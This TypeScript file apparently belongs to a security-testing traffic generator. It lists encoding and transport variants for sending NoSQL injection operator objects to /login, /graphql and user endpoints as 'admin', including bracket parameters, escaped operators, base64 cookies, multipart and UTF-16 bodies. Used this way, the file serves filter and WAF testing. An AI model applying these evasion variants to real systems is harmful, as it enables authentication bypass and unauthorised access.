import type { RawRequest } from '@sallyport/traffic';
import { get, json, post } from './message.ts';
import type { Way } from './way.ts';

/** `user[$ne]=` for an operator object of one level, or deeper where it is. */
function brackets(value: unknown, name: string): string[] {
  if (typeof value !== 'object' || value === null) return [`${name}=${encodeURIComponent(String(value ?? ''))}`];
  return Object.entries(value).flatMap(([key, inner]) => brackets(inner, `${name}[${key}]`));
}

const object = (name: string, carry: (value: unknown, text: string) => RawRequest | null): Way => ({
  name,
  classes: ['nosqli'],
  carry: (text) => carry(JSON.parse(text), text),
});

const byBrackets = (value: unknown, write: (pairs: string) => RawRequest): RawRequest | null => {
  const pairs = brackets(value, 'password');
  return pairs.length === 0 ? null : write(`user=admin&${pairs.join('&')}`);
};

/** Ways of operator objects, which are values rather than texts. */
export const OBJECT_WAYS: readonly Way[] = [
  object('object: member of JSON', (value) => json('/login', { user: 'admin', password: value })),
  object('object: operators escaped', (_, text) =>
    post('/login', 'application/json', `{"user":"admin","password":${text.replaceAll('$', '\\u0024')}}`),
  ),
  object('object: JSON in a string', (_, text) => json('/login', { user: 'admin', filter: text })),
  object('object: JSON in a string in a string', (_, text) =>
    json('/login', { user: 'admin', filter: JSON.stringify({ password: text }) }),
  ),
  object('object: in a query parameter', (_, text) => get(`/users?filter=${encodeURIComponent(`{"password":${text}}`)}`)),
  object('object: brackets in the query', (value) => byBrackets(value, (pairs) => get(`/users?${pairs}`))),
  object('object: brackets encoded', (value) =>
    byBrackets(value, (pairs) => get(`/users?${pairs.replace(/[[\]$]/g, encodeURIComponent)}`)),
  ),
  object('object: brackets in a form', (value) => byBrackets(value, (pairs) => post('/login', 'application/x-www-form-urlencoded', pairs))),
  object('object: dots in names', (value) => byBrackets(value, (pairs) => get(`/users?${pairs.replace(/\[([^\]]+)\]/g, '.$1')}`))),
  object('object: items of an array', (value) => json('/login', [{ user: 'admin', password: value }])),
  object('object: 10 deep', (value) =>
    json(
      '/login',
      Array.from({ length: 10 }).reduce<unknown>((inner) => ({ a: inner }), { password: value }),
    ),
  ),
  object('object: base64 in a cookie', (_, text) =>
    get('/me', { headers: [['cookie', `session=${Buffer.from(`{"user":${text}}`).toString('base64')}`]] }),
  ),
  object('object: JSON as text/plain', (_, text) => post('/login', 'text/plain', `{"user":"admin","password":${text}}`)),
  object('object: JSON as a form', (_, text) => post('/login', 'application/x-www-form-urlencoded', `{"user":"admin","password":${text}}`)),
  object('object: GraphQL variable', (value) =>
    json('/graphql', { query: 'query($f: JSON) { users(filter: $f) { id } }', variables: { f: { password: value } } }),
  ),
  object('object: GraphQL literal', (_, text) => json('/graphql', { query: `{ users(filter: ${JSON.stringify(text)}) { id } }` })),
  object('object: multipart field', (value) => {
    const pairs = brackets(value, 'password');
    return pairs.length === 0
      ? null
      : post(
          '/login',
          'multipart/form-data; boundary=b',
          `${pairs.map((pair) => `--b\r\nContent-Disposition: form-data; name="${pair.slice(0, pair.indexOf('='))}"\r\n\r\n${decodeURIComponent(pair.slice(pair.indexOf('=') + 1))}\r\n`).join('')}--b--\r\n`,
        );
  }),
  object('object: in UTF-16', (_, text) =>
    post('/login', 'application/json; charset=utf-16', Buffer.from(`\ufeff{"password":${text}}`, 'utf16le')),
  ),
];
